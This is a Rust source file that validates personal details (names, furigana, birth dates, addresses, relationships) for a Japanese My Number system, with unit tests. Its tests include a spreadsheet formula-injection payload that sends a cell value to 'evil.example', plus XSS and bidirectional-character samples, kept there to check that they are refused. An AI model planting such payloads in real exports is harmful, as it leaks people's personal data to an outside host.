//! Who a number belongs to: name, furigana, birth date, relationship — each parsed once.

use std::fmt;

use serde::{Deserialize, Serialize};
use time::Date;

use crate::MyNumber;
use crate::typed_text::{self, Lines};

/// Why a personal detail was refused. Carries no input, so it is safe to log and to show.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
pub enum PersonError {
    /// The name is empty after trimming.
    #[error("the name is empty")]
    NameEmpty,
    /// The name is longer than 100 characters or holds a character that typed text may
    /// not ([`crate::typed_text`]).
    #[error("the name is too long or contains control or invisible formatting characters")]
    NameInvalid,
    /// The name starts with `=`, `+`, `-` or `@`, which a spreadsheet reads as a formula.
    #[error("the name starts with a character a spreadsheet reads as a formula")]
    NameFormulaStart,
    /// Furigana is empty.
    #[error("the furigana is empty")]
    KanaEmpty,
    /// Furigana holds something other than kana, spaces and the long-vowel mark.
    #[error("furigana must be written in katakana or hiragana")]
    KanaInvalid,
    /// Not a calendar date in the form YYYY-MM-DD.
    #[error("the birth date must be a date in the form YYYY-MM-DD")]
    DateFormat,
    /// A birth date in the future or before 1900.
    #[error("the birth date is out of range")]
    DateRange,
    /// Not one of the known relationships.
    #[error("unknown relationship")]
    Relationship,
    /// An address too long, or holding what typed text refuses, or starting like a formula.
    #[error("the address is too long or contains characters that are not allowed")]
    AddressInvalid,
    /// An alphabetic name holding something other than Latin letters and the marks names use.
    #[error("the alphabetic name must be written in Latin letters")]
    AlphabeticNameInvalid,
}

const MAX_NAME_CHARS: usize = 100;

/// A person's name as written on their documents (kanji, kana or Latin letters).
///
/// Any text of one line is allowed apart from what [`crate::typed_text`] refuses (control,
/// bidirectional and invisible formatting characters), and it may not start with a
/// character a spreadsheet reads as a formula ([`crate::typed_text::FORMULA_START`]: OWASP,
/// "CSV Injection"): no real name starts with `=`, `+`, `-` or `@`, while the names that
/// hold them inside ("Smith-Jones", "グエン＝ヴァン") are kept. It is escaped wherever it is
/// shown, and neutralised again in every CSV file.
#[derive(Clone, PartialEq, Eq, Serialize)]
#[serde(transparent)]
pub struct PersonName(String);

impl PersonName {
    /// Trims and checks a typed name.
    pub fn parse(input: &str) -> Result<Self, PersonError> {
        let name = typed_text::parse(input, Lines::One, MAX_NAME_CHARS)
            .map_err(|_| PersonError::NameInvalid)?;
        if name.is_empty() {
            return Err(PersonError::NameEmpty);
        }
        if typed_text::starts_like_formula(&name) {
            return Err(PersonError::NameFormulaStart);
        }
        Ok(Self(name))
    }

    /// The name as text.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Debug for PersonName {
    // Names are personal data: keep them out of debug logs too.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("PersonName(…)")
    }
}

/// Furigana (フリガナ), normalized to full-width katakana with single ASCII spaces. Only kana,
/// the long-vowel mark, the middle dot, the marks that join the parts of foreign names
/// (＝ and the hyphen, as in グエン＝ヴァン or グエン－ヴァン) and spaces are accepted, so
/// furigana can start with no formula character and hold no control or invisible character.
#[derive(Clone, PartialEq, Eq, Serialize)]
#[serde(transparent)]
pub struct NameKana(String);

/// The marks joining the parts of a name (normalized to their full-width forms): never at
/// the start or the end of a part, so furigana never starts like a formula.
const JOINERS: [char; 2] = ['＝', '－'];

impl NameKana {
    /// Accepts katakana or hiragana (converted to katakana), the long-vowel mark, the
    /// middle dot, ＝ and - between the parts of a name (ASCII or full-width, stored
    /// full-width), and spaces between names.
    pub fn parse(input: &str) -> Result<Self, PersonError> {
        let mut out = String::with_capacity(input.len());
        for word in input.split([' ', '\u{3000}']).filter(|w| !w.is_empty()) {
            if !out.is_empty() {
                out.push(' ');
            }
            let start = out.len();
            for c in word.chars() {
                let katakana = match c {
                    // Hiragana ぁ..ゖ map one-to-one onto katakana ァ..ヶ.
                    'ぁ'..='ゖ' => {
                        char::from_u32(c as u32 + 0x60).ok_or(PersonError::KanaInvalid)?
                    }
                    'ァ'..='ヺ' | 'ー' | '・' | 'ヽ' | 'ヾ' => c,
                    '･' => '・',
                    'ゝ' | 'ゞ' => {
                        char::from_u32(c as u32 + 0x60).ok_or(PersonError::KanaInvalid)?
                    }
                    '=' | '＝' => '＝',
                    '-' | '－' | '‐' | '‑' => '－',
                    _ => return Err(PersonError::KanaInvalid),
                };
                out.push(katakana);
            }
            let part = &out[start..];
            let first = part.chars().next();
            let last = part.chars().next_back();
            if first.is_some_and(|c| JOINERS.contains(&c))
                || last.is_some_and(|c| JOINERS.contains(&c))
            {
                return Err(PersonError::KanaInvalid);
            }
        }
        if out.is_empty() {
            return Err(PersonError::KanaEmpty);
        }
        if out.chars().count() > MAX_NAME_CHARS {
            return Err(PersonError::KanaInvalid);
        }
        Ok(Self(out))
    }

    /// The furigana as text.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Debug for NameKana {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("NameKana(…)")
    }
}

/// A birth date: a real calendar date, not in the future, not before 1900.
#[derive(Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct BirthDate(Date);

impl BirthDate {
    /// Parses a date as people and spreadsheets write it and checks it against `today`:
    /// `YYYY-MM-DD`, and what Excel writes for a date cell in a Japanese locale —
    /// `1985/2/28`, `1985/02/28` — or a person types — `1985年2月28日`, `1985.2.28` — in
    /// ASCII or full-width digits (issue 18: a roster exported from Excel).
    pub fn parse(input: &str, today: Date) -> Result<Self, PersonError> {
        let normal: String = input
            .trim()
            .chars()
            .filter_map(|c| match c {
                '０'..='９' => char::from_u32(c as u32 - '０' as u32 + '0' as u32),
                '－' | '/' | '／' | '.' | '．' | '年' | '月' => Some('-'),
                '日' => None,
                _ => Some(c),
            })
            .collect();
        let parts: Vec<&str> = normal.split('-').collect();
        let number = |s: &str, widths: std::ops::RangeInclusive<usize>| {
            (widths.contains(&s.len()) && s.bytes().all(|b| b.is_ascii_digit()))
                .then(|| s.parse::<u16>().ok())
                .flatten()
                .ok_or(PersonError::DateFormat)
        };
        let [year, month, day] = parts.as_slice() else {
            return Err(PersonError::DateFormat);
        };
        let (year, month, day) = (
            number(year, 4..=4)?,
            number(month, 1..=2)?,
            number(day, 1..=2)?,
        );
        let month = u8::try_from(month)
            .ok()
            .and_then(|m| time::Month::try_from(m).ok())
            .ok_or(PersonError::DateFormat)?;
        let date = Date::from_calendar_date(i32::from(year), month, u8::try_from(day).unwrap_or(0))
            .map_err(|_| PersonError::DateFormat)?;
        if date > today || date.year() < 1900 {
            return Err(PersonError::DateRange);
        }
        Ok(Self(date))
    }

    /// The date.
    pub fn date(self) -> Date {
        self.0
    }

    /// ISO 8601 `YYYY-MM-DD`, the form stored and exchanged.
    pub fn to_iso(self) -> String {
        let format = time::macros::format_description!("[year]-[month]-[day]");
        self.0.format(&format).unwrap_or_default()
    }
}

impl TryFrom<String> for BirthDate {
    type Error = PersonError;
    fn try_from(value: String) -> Result<Self, Self::Error> {
        Self::parse(&value, time::OffsetDateTime::now_utc().date())
    }
}

impl From<BirthDate> for String {
    fn from(value: BirthDate) -> Self {
        value.to_iso()
    }
}

impl fmt::Debug for BirthDate {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("BirthDate(…)")
    }
}

const MAX_ADDRESS_CHARS: usize = 200;

/// A postal address (住所) as written on the 住民票: one line of typed text, not starting
/// like a formula. Needed on every 支払調書 for payees, and by the officer to apply the
/// 通知カード condition (name and address must match the current 住民票).
#[derive(Clone, PartialEq, Eq, Serialize)]
#[serde(transparent)]
pub struct Address(String);

impl Address {
    /// Trims and checks a typed address; `None` when left blank.
    pub fn parse_optional(input: &str) -> Result<Option<Self>, PersonError> {
        let text = typed_text::parse(input, Lines::One, MAX_ADDRESS_CHARS)
            .map_err(|_| PersonError::AddressInvalid)?;
        if text.is_empty() {
            return Ok(None);
        }
        if typed_text::starts_like_formula(&text) {
            return Err(PersonError::AddressInvalid);
        }
        Ok(Some(Self(text)))
    }

    /// The address as text.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Debug for Address {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("Address(…)")
    }
}

/// The alphabetic name of a foreign resident (アルファベット氏名, as on the residence card):
/// Latin letters (ASCII or full-width, stored ASCII), with spaces, hyphens, apostrophes,
/// periods and commas between them; it starts with a letter, so never like a formula.
#[derive(Clone, PartialEq, Eq, Serialize)]
#[serde(transparent)]
pub struct AlphabeticName(String);

impl AlphabeticName {
    /// Normalizes and checks a typed alphabetic name; `None` when left blank.
    pub fn parse_optional(input: &str) -> Result<Option<Self>, PersonError> {
        let mut out = String::new();
        for word in input.split([' ', '\u{3000}']).filter(|w| !w.is_empty()) {
            if !out.is_empty() {
                out.push(' ');
            }
            for c in word.chars() {
                let c = match c {
                    'Ａ'..='Ｚ' | 'ａ'..='ｚ' => char::from_u32(c as u32 - 0xFEE0)
                        .ok_or(PersonError::AlphabeticNameInvalid)?,
                    _ => c,
                };
                if !(c.is_ascii_alphabetic() || matches!(c, '-' | '\'' | '.' | ',')) {
                    return Err(PersonError::AlphabeticNameInvalid);
                }
                out.push(c);
            }
        }
        if out.is_empty() {
            return Ok(None);
        }
        if !out.starts_with(|c: char| c.is_ascii_alphabetic())
            || out.chars().count() > MAX_NAME_CHARS
        {
            return Err(PersonError::AlphabeticNameInvalid);
        }
        Ok(Some(Self(out)))
    }

    /// The name as text.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Debug for AlphabeticName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("AlphabeticName(…)")
    }
}

/// What filings need besides the name: the address, the alphabetic name of a foreign
/// resident, the 通称 (a registered alias) and the 旧姓 (a former surname kept on the 住民票).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FilingDetails {
    /// 住所.
    pub address: Option<Address>,
    /// アルファベット氏名.
    pub name_alphabetic: Option<AlphabeticName>,
    /// 通称.
    pub common_name: Option<PersonName>,
    /// 旧姓.
    pub former_surname: Option<PersonName>,
}

/// Why a dependant has no number: a relative living abroad (国外居住親族) has none, and a
/// newborn has none until the municipality assigns it.
#[derive(
    Debug,
    Clone,
    Copy,
    PartialEq,
    Eq,
    Serialize,
    Deserialize,
    strum::IntoStaticStr,
    strum::EnumString,
    strum::VariantArray,
    strum::VariantNames,
)]
#[serde(rename_all = "snake_case")]
#[strum(serialize_all = "snake_case")]
pub enum NoNumberReason {
    /// 国外居住親族: living abroad, never assigned a number.
    LivingAbroad,
    /// A newborn whose number is not assigned yet.
    NewbornNotYetNumbered,
}

crate::codes!(NoNumberReason);

/// How a subject relates to the employee who provides their number.
#[derive(
    Debug,
    Clone,
    Copy,
    PartialEq,
    Eq,
    Serialize,
    Deserialize,
    Hash,
    strum::IntoStaticStr,
    strum::EnumString,
    strum::VariantArray,
    strum::VariantNames,
)]
#[serde(rename_all = "snake_case")]
#[strum(serialize_all = "snake_case")]
pub enum Relationship {
    /// The employee or payee themself.
    #[serde(rename = "self")]
    #[strum(serialize = "self")]
    Myself,
    /// Spouse (配偶者).
    Spouse,
    /// Child (子).
    Child,
    /// Parent (父母).
    Parent,
    /// Grandparent (祖父母).
    Grandparent,
    /// Sibling (兄弟姉妹).
    Sibling,
    /// Any other relative (その他の親族).
    OtherRelative,
}

crate::codes!(Relationship);

/// A parsed change, the number not yet sealed.
#[derive(Debug)]
pub enum ParsedChange {
    /// A new dependant and what the employee declares.
    AddDependant(Box<ParsedSubject>, bool, bool),
    /// A dependant leaves.
    EndDependant,
    /// A new name, furigana and optionally the 旧姓.
    Name(PersonName, NameKana, Option<PersonName>),
    /// A new address.
    Address(Address),
    /// A new number.
    Number(MyNumber),
    /// 第3号 starts.
    Category3Start,
    /// 第3号 ends.
    Category3End,
}

/// A subject form after parsing.
#[derive(Debug)]
pub struct ParsedSubject {
    /// Relationship.
    pub relationship: Relationship,
    /// The number; `None` only for a dependant with a [`NoNumberReason`].
    pub number: Option<MyNumber>,
    /// Why a dependant has no number.
    pub no_number_reason: Option<NoNumberReason>,
    /// Name.
    pub name: PersonName,
    /// Furigana.
    pub name_kana: NameKana,
    /// Birth date.
    pub birth_date: BirthDate,
    /// Address, alphabetic name, 通称, 旧姓.
    pub details: FilingDetails,
}

/// A subject form parsed for a change: the number is `None` when left blank, which
/// keeps the saved one (a saved number is never shown back, so blank means unchanged).
#[derive(Debug)]
pub struct ParsedEdit {
    /// Relationship.
    pub relationship: Relationship,
    /// The new number, if one was typed.
    pub number: Option<MyNumber>,
    /// Name.
    pub name: PersonName,
    /// Furigana.
    pub name_kana: NameKana,
    /// Birth date.
    pub birth_date: BirthDate,
    /// Why a dependant (still) has no number, when the number is blank.
    pub no_number_reason: Option<NoNumberReason>,
    /// Address, alphabetic name, 通称, 旧姓.
    pub details: FilingDetails,
}

#[cfg(test)]
mod tests {
    use super::*;
    use time::macros::date;

    #[test]
    fn names_are_trimmed_and_control_characters_refused() {
        assert_eq!(
            PersonName::parse("  山田 太郎 ").map(|n| n.0),
            Ok("山田 太郎".into())
        );
        assert_eq!(PersonName::parse("  "), Err(PersonError::NameEmpty));
        assert_eq!(PersonName::parse("a\u{0}b"), Err(PersonError::NameInvalid));
        assert_eq!(PersonName::parse("a\nb"), Err(PersonError::NameInvalid));
        assert_eq!(
            PersonName::parse("山田\u{202E}郎太"),
            Err(PersonError::NameInvalid)
        );
        assert!(PersonName::parse("<script>alert(1)</script>").is_ok());
    }

    #[test]
    fn names_that_a_spreadsheet_would_run_are_refused_and_real_ones_kept() {
        for formula in [
            "=HYPERLINK(\"https://evil.example/?n=\"&E2,\"click\")",
            " =1+1",
            "+81 Taro",
            "-Smith",
            "@SUM(A1)",
            "\t=1",
        ] {
            assert!(PersonName::parse(formula).is_err(), "{formula:?}");
        }
        assert_eq!(
            PersonName::parse("=1+1"),
            Err(PersonError::NameFormulaStart)
        );
        for real in [
            "Smith-Jones",
            "グエン＝ヴァン",
            "Mary-Ann O'Neil",
            "ＡＢＣ＝１",
        ] {
            assert!(PersonName::parse(real).is_ok(), "{real:?}");
        }
        assert_eq!(NameKana::parse("=ヤマダ"), Err(PersonError::KanaInvalid));
    }

    #[test]
    fn hiragana_furigana_becomes_katakana() {
        let kana = NameKana::parse("やまだ　たろう").expect("valid");
        assert_eq!(kana.as_str(), "ヤマダ タロウ");
        assert_eq!(
            NameKana::parse("ヤマダ ター").map(|k| k.0),
            Ok("ヤマダ ター".into())
        );
        assert_eq!(NameKana::parse("山田"), Err(PersonError::KanaInvalid));
        assert_eq!(NameKana::parse("Yamada"), Err(PersonError::KanaInvalid));
        assert_eq!(NameKana::parse(" "), Err(PersonError::KanaEmpty));
    }

    #[test]
    fn foreign_furigana_keeps_the_marks_joining_its_parts() {
        for (typed, stored) in [
            ("グエン＝ヴァン アン", "グエン＝ヴァン アン"),
            ("グエン=ヴァン", "グエン＝ヴァン"),
            ("グエン-ヴァン", "グエン－ヴァン"),
            ("スミス・ジョーンズ", "スミス・ジョーンズ"),
            ("ｸﾞｴﾝ", ""),
        ] {
            if stored.is_empty() {
                assert_eq!(NameKana::parse(typed), Err(PersonError::KanaInvalid));
            } else {
                assert_eq!(NameKana::parse(typed).map(|k| k.0), Ok(stored.into()));
            }
        }
        for bad in [
            "=ヤマダ",
            "＝ヤマダ",
            "ヤマダ-",
            "-ヤマダ",
            "ヤマダ ＝タロウ",
            "ヤマダ\u{202e}",
        ] {
            assert_eq!(
                NameKana::parse(bad),
                Err(PersonError::KanaInvalid),
                "{bad:?}"
            );
        }
    }

    #[test]
    fn filing_details_parse_or_stay_blank() {
        assert_eq!(Address::parse_optional("  "), Ok(None));
        assert_eq!(
            Address::parse_optional("東京都千代田区千代田1-1").map(|a| a.map(|a| a.0)),
            Ok(Some("東京都千代田区千代田1-1".into()))
        );
        assert_eq!(
            Address::parse_optional("=HYPERLINK(1)"),
            Err(PersonError::AddressInvalid)
        );
        assert_eq!(
            AlphabeticName::parse_optional("NGUYEN  VAN AN").map(|a| a.map(|a| a.0)),
            Ok(Some("NGUYEN VAN AN".into()))
        );
        assert_eq!(
            AlphabeticName::parse_optional("Ｏ'Ｎｅｉｌ").map(|a| a.map(|a| a.0)),
            Ok(Some("O'Neil".into()))
        );
        for bad in ["-SMITH", "山田", "A\u{202e}B", "@x"] {
            assert_eq!(
                AlphabeticName::parse_optional(bad),
                Err(PersonError::AlphabeticNameInvalid),
                "{bad:?}"
            );
        }
    }

    #[test]
    fn birth_dates_must_be_real_and_past() {
        let today = date!(2026 - 11 - 22);
        assert!(BirthDate::parse("1990-04-01", today).is_ok());
        assert!(BirthDate::parse("１９９０－０４－０１", today).is_ok());
        assert_eq!(
            BirthDate::parse("1990-02-30", today),
            Err(PersonError::DateFormat)
        );
        assert_eq!(
            BirthDate::parse("2026-11-23", today),
            Err(PersonError::DateRange)
        );
        assert_eq!(
            BirthDate::parse("1899-12-31", today),
            Err(PersonError::DateRange)
        );
        assert_eq!(
            BirthDate::parse("yesterday", today),
            Err(PersonError::DateFormat)
        );
        // What Excel writes for a date cell, and what people type.
        let expected = BirthDate::parse("1985-02-28", today).expect("iso");
        for written in [
            "1985/2/28",
            "1985/02/28",
            "1985年2月28日",
            "1985.2.28",
            "１９８５／２／２８",
            " 1985-2-28 ",
        ] {
            assert_eq!(BirthDate::parse(written, today), Ok(expected), "{written}");
        }
        for bad in [
            "85/2/28",
            "1985/2",
            "1985/2/28/1",
            "1985//28",
            "1985/002/28",
            "1985/2/+8",
            "31106",
        ] {
            assert_eq!(
                BirthDate::parse(bad, today),
                Err(PersonError::DateFormat),
                "{bad}"
            );
        }
    }

    #[test]
    fn relationships_round_trip_through_their_codes() {
        for r in [
            Relationship::Myself,
            Relationship::Spouse,
            Relationship::Child,
            Relationship::Parent,
            Relationship::Grandparent,
            Relationship::Sibling,
            Relationship::OtherRelative,
        ] {
            assert_eq!(Relationship::from_code(r.code()), Some(r));
        }
    }
}
